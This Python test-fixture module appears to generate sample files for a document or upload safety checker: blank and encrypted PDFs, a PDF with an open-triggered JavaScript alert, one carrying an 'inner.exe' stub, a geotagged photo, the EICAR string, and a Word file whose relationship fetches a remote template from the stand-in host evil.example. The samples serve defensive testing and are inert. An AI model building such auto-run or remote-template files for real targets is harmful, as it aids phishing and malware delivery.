"""Files nobody should take, and honest ones, made here byte by byte."""

import zipfile
from io import BytesIO

EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def a_pdf(root: dict | None = None, **options) -> bytes:
    """A PDF of one empty page; `root` adds to its catalogue."""
    import pikepdf

    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(200, 200))
        for name, value in (root or {}).items():
            pdf.Root[name] = value
        out = BytesIO()
        pdf.save(out, **options)
    return out.getvalue()


def scripted_pdf() -> bytes:
    """A PDF that runs a script when it is opened."""
    import pikepdf

    return a_pdf({"/OpenAction": pikepdf.Dictionary(S=pikepdf.Name("/JavaScript"), JS="app.alert(1)")})


def carrying_pdf() -> bytes:
    """A PDF with another file inside."""
    import pikepdf

    with pikepdf.open(BytesIO(a_pdf())) as pdf:
        pdf.attachments["inner.exe"] = b"MZ"
        out = BytesIO()
        pdf.save(out)
    return out.getvalue()


def locked_pdf() -> bytes:
    """A PDF with a password."""
    import pikepdf

    return a_pdf(encryption=pikepdf.Encryption(owner="a", user="b"))


def a_photo(exif: bool = False, size=(40, 30)) -> bytes:
    """A photograph; with `exif`, it says where it was taken."""
    from PIL import Image

    image, out = Image.new("RGB", size, (200, 30, 30)), BytesIO()
    options = {}
    if exif:
        said = Image.Exif()
        said[0x010E] = "Outside 14 Copthorne Row"
        said.get_ifd(0x8825)[2] = (52.0, 30.0, 0.0)
        options["exif"] = said
    image.save(out, format="JPEG", **options)
    return out.getvalue()


def a_png(size=(10, 10)) -> bytes:
    """A picture."""
    from PIL import Image

    out = BytesIO()
    Image.new("RGB", size).save(out, format="PNG")
    return out.getvalue()


def a_zip(parts: dict[str, bytes]) -> bytes:
    """A zip of these parts."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as box:
        for name, content in parts.items():
            box.writestr(name, content)
    return out.getvalue()


def a_docx(extra: dict[str, bytes] | None = None) -> bytes:
    """A Word document of one sentence, with further parts."""
    from docx import Document

    document, out = Document(), BytesIO()
    document.add_paragraph("Seen at school today.")
    document.save(out)
    if not extra:
        return out.getvalue()
    parts = {name: zipfile.ZipFile(out).read(name) for name in zipfile.ZipFile(out).namelist()}
    return a_zip(parts | extra)


def a_linked_docx() -> bytes:
    """A Word document that fetches a template when it is opened."""
    relation = (
        b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/t"'
        b' TargetMode="External"/></Relationships>'
    )
    return a_docx({"word/_rels/settings.xml.rels": relation})


def an_email(attachment: bool = False) -> bytes:
    """A saved e-mail."""
    from email.message import EmailMessage

    message = EmailMessage()
    message["From"], message["To"], message["Date"] = (
        "a@example.org",
        "b@example.org",
        "Mon, 23 Nov 2026 10:00:00 +0000",
    )
    message["Subject"] = "Wren"
    message.set_content("She was not in school today.")
    if attachment:
        message.add_attachment(b"x", maintype="application", subtype="pdf", filename="x.pdf")
    return message.as_bytes()
